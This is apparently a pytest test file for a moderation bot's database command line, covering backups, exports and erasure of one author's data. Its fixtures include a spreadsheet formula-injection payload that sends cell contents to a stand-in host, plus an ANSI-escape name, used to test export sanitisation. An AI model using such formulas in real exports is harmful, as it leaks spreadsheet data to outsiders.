"""`flagpost store`: what an operator does to the database by hand."""

import csv
import io
import json
import sqlite3
from contextlib import closing
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from bot.cli.main import main
from bot.store import migrations
from bot.store.backup import pg_dump
from bot.store.records import Moderator, Report, Silence, Verb
from bot.store.store import Store
from classifier.assessment import Assessment
from classifier.labels import Label
from classifier.post import Post, Quotation
from tests.least_config import LEAST_CONFIG

CONFIG = LEAST_CONFIG + '[store]\nurl = "{url}"\n'
NOON = datetime(2026, 5, 4, 12, tzinfo=UTC)
NEWEST = max(path.name[:4] for path in (Path(migrations.__path__[0]) / "versions").glob("0*.py"))
FORMULA = '=HYPERLINK("http://x.example?"&A1,"click")'


def run(*arguments: str, typed: str | None = None) -> Result:
    return CliRunner().invoke(main, ["store", *arguments], input=typed)


@pytest.fixture
def empty(url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """A folder with a config, whose store is not there yet."""
    monkeypatch.chdir(tmp_path)
    Path("config.toml").write_text(CONFIG.format(url=url.replace("postgresql+psycopg", "postgresql")), encoding="utf-8")
    return url


@pytest.fixture
def forum(empty: str) -> str:
    """A store with three posts of two authors, two of them flagged."""
    judged, dana = Assessment(probabilities=dict.fromkeys(Label, 0.6), model="m1", spans={}), Moderator("9", "Dana")
    with Store.open(empty) as store:
        for number, (author, name, text) in enumerate(
            (("1", "Mallory", FORMULA), ("1", "Mallory", "b"), ("2", "Al", "c"))
        ):
            quoted = (Quotation(text="a quotation", author="Bob"),) if author == "1" else ()
            post = Post(
                source="harbour", id=str(number), text=text, author=author, author_name=name, quotations=quoted,
                created_at=NOON,
            )  # fmt: skip
            store.save_post(post)
            store.save_assessment(post, judged, [Label.TROLLING] if number != 1 else [], NOON)
        store.confirm(1, dana, [Label.TROLLING], NOON, timedelta(0))
        store.remark(1, Verb.NOTE, dana, "@SUM(A1)", NOON)
        report = Report(dana, {Label.TROLLING: Silence.BELOW_THRESHOLD}, {Label.TROLLING: 0.9})
        post = Post(source="harbour", id="1", text="b", author="1", author_name="Mallory", created_at=NOON)
        store.reports.report(post, [Label.TROLLING], report, NOON)
    return empty


@pytest.mark.parametrize("command", [["migrate"], ["check"], ["forget", "x"], ["export", "posts", "x.csv"]])
def test_a_store_that_is_not_there(command: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("config.toml").write_text(CONFIG.format(url="sqlite:///store.sqlite3"), encoding="utf-8")
    result = run(*command)
    assert result.exit_code == 2
    assert result.output.endswith("store.sqlite3 is not there yet: flagpost run makes it\n")
    assert [path.name for path in tmp_path.iterdir()] == ["config.toml"]


def test_migrate_says_from_what_to_what(forum: str) -> None:
    assert run("migrate").output == f"the tables are at {NEWEST} already\n"
    if forum.startswith("sqlite"):
        path = Path(forum.removeprefix("sqlite:///"))
        path.write_bytes(b"")
    else:
        with Store.open(forum) as store, store._database.writing() as connection:
            connection.exec_driver_sql("DROP SCHEMA public CASCADE; CREATE SCHEMA public")
    assert run("migrate").output == f"from nothing to {NEWEST}\n"


def test_check(forum: str) -> None:
    result = run("check")
    assert (result.exit_code, result.output) == (0, "the store is sound\n")
    with Store.open(forum) as store, store._database.writing() as connection:
        connection.exec_driver_sql("UPDATE audit SET verb = 'undo' WHERE step = 1")
        connection.exec_driver_sql("UPDATE posts SET newest = false")
    result = run("check")
    assert result.exit_code == 2
    first, second = result.output.splitlines()
    assert first.startswith("flagpost: store: posts without exactly one newest revision: ")
    assert second == "flagpost: store: flags with a trail that cannot have come about: 1"


def test_a_backup_is_a_store(forum: str) -> None:
    result = run("backup", "copy.sqlite3")
    if not forum.startswith("sqlite"):
        assert result.exit_code == 2
        assert "pg_dump --format=custom --file=copy.sqlite3 --dbname=postgresql://" in result.output
        assert not Path("copy.sqlite3").exists()
        return
    assert result.exit_code == 0, result.output
    assert Path("copy.sqlite3").stat().st_mode & 0o777 == 0o600
    with Store.open("sqlite:///copy.sqlite3") as copy, Store.open(forum) as store:
        assert copy.flags() == store.flags()
    assert run("backup", "copy.sqlite3").output == "flagpost: copy.sqlite3 is there already: name a new file\n"
    assert run("backup", forum.removeprefix("sqlite:///")).exit_code == 2, "not over the store itself"


def test_a_backup_while_somebody_writes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("config.toml").write_text(CONFIG.format(url="sqlite:///store.sqlite3"), encoding="utf-8")
    with Store.open("sqlite:///store.sqlite3") as store:
        store.save_post(Post(source="harbour", id="1", text="committed"))
        with store._database.writing() as connection:
            connection.exec_driver_sql("UPDATE posts SET text = 'half done'")
            result = run("backup", "copy.sqlite3")
    assert result.exit_code == 0, result.output
    with closing(sqlite3.connect("copy.sqlite3")) as copy:
        assert copy.execute("SELECT text FROM posts").fetchall() == [("committed",)]
    assert sorted(path.name for path in tmp_path.iterdir()) == ["config.toml", "copy.sqlite3", "store.sqlite3"]


def test_a_damaged_store_makes_no_backup(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("config.toml").write_text(CONFIG.format(url="sqlite:///store.sqlite3"), encoding="utf-8")
    with Store.open("sqlite:///store.sqlite3") as store:
        store.save_posts([Post(source="harbour", id=str(n), text="words " * 300) for n in range(100)])
    content = Path("store.sqlite3").read_bytes()
    Path("store.sqlite3").write_bytes(content[:40_000] + b"\xff" * (len(content) - 40_000))
    result = run("backup", "copy.sqlite3")
    assert result.exit_code == 2
    assert "is damaged" in result.output
    assert not list(tmp_path.glob("copy*"))


def test_the_command_for_postgres_holds_no_password() -> None:
    for url in ("postgresql://me:s3cret@host:5433/name?sslmode=require", "postgresql://host/n?user=me&password=s3cret"):
        command = pg_dump(url, Path("a b.dump"))
        assert "s3cret" not in command
        assert command.startswith("pg_dump --format=custom '--file=a b.dump' ")
    assert pg_dump("postgresql+psycopg://me:s3cret@host:5433/name?sslmode=require", Path("x")) == (
        "pg_dump --format=custom --file=x '--dbname=postgresql://me@host:5433/name?sslmode=require'"
    )


def lines(file: str) -> list[dict[str, object]]:
    return [json.loads(line) for line in Path(file).read_text(encoding="utf-8").splitlines()]


@pytest.mark.usefixtures("forum")
def test_export_of_everything() -> None:
    assert run("export", "all", "all.jsonl").output == "all.jsonl: 8 rows\n"
    rows = lines("all.jsonl")
    assert [row["kind"] for row in rows] == ["posts"] * 3 + ["flags"] * 3 + ["decisions"] * 2
    assert rows[0]["text"] == FORMULA
    assert rows[0]["provenance"] == "forum"
    assert Path("all.jsonl").stat().st_mode & 0o777 == 0o600


@pytest.mark.usefixtures("forum")
def test_export_for_a_data_request_has_all_of_one_author_and_no_names_of_staff() -> None:
    result = run("export", "all", "mallory.jsonl", "--author", "harbour/1")
    assert result.exit_code == 0, result.output
    rows = lines("mallory.jsonl")
    assert {(row["kind"], row.get("id", row.get("post"))) for row in rows} == {
        ("posts", "0"), ("posts", "1"), ("flags", "0"), ("flags", "1"), ("decisions", "0")
    }  # fmt: skip
    assert "Dana" not in Path("mallory.jsonl").read_text(encoding="utf-8")
    assert run("export", "posts", "al.jsonl", "--author", "Al").output == "al.jsonl: 1 row\n"
    nobody = run("export", "all", "nobody.jsonl", "--author", "No\x1b[31mbody")
    assert nobody.exit_code == 2
    assert nobody.output.startswith("flagpost: nobody called No?[31mbody has written here")
    assert not Path("nobody.jsonl").exists()


@pytest.mark.usefixtures("forum")
def test_cells_of_a_spreadsheet_are_no_formulas() -> None:
    for kind in ("posts", "flags", "decisions"):
        assert run("export", kind, f"{kind}.csv").exit_code == 0
        sheet = csv.DictReader(io.StringIO(Path(f"{kind}.csv").read_text(encoding="utf-8-sig"), newline=""))
        for row in sheet:
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert "'=HYPERLINK" in Path("posts.csv").read_text(encoding="utf-8-sig")
    assert "'@SUM(A1)" in Path("decisions.csv").read_text(encoding="utf-8-sig")


@pytest.mark.parametrize(
    ("arguments", "told"),
    [(("posts", "posts.txt"), "has to end in .jsonl or .csv"), (("all", "all.csv"), "one table cannot hold all kinds")],
)
def test_exports_that_cannot_be(arguments: tuple[str, ...], told: str) -> None:
    result = run("export", *arguments)
    assert result.exit_code == 2
    assert told in result.output


def test_forget_asks_first_and_tells_what_was_erased(forum: str) -> None:
    refused = run("forget", "harbour/1", typed="n\n")
    assert "Erase what harbour/1 (Mallory) wrote? There is no way back." in refused.output
    assert refused.output.endswith("nothing was erased\n")
    told = (
        "harbour/1 (Mallory): erased the texts and the name in 2 posts, 0 quotations, "
        "0 mentions as the original of a copy, 1 note; 2 flags left without words\n"
    )
    assert run("forget", "Mallory", "--yes").output == told
    with Store.open(forum) as store:
        assert [post.text for post in store.recent_posts(NOON)] == ["c"]
        assert [flag.decision is not None for flag in store.flags()] == [True, False, False]
    assert run("forget", "Mallory", "--yes").exit_code == 2
    assert run("check").exit_code == 0


def test_a_name_that_several_have(forum: str) -> None:
    with Store.open(forum) as store:
        store.save_post(Post(source="mill", id="1", text="x", author="8", author_name="Al"))
    result = run("forget", "Al", "--yes")
    assert (result.exit_code, result.output) == (2, "flagpost: Al may be: harbour/2, mill/8\n")
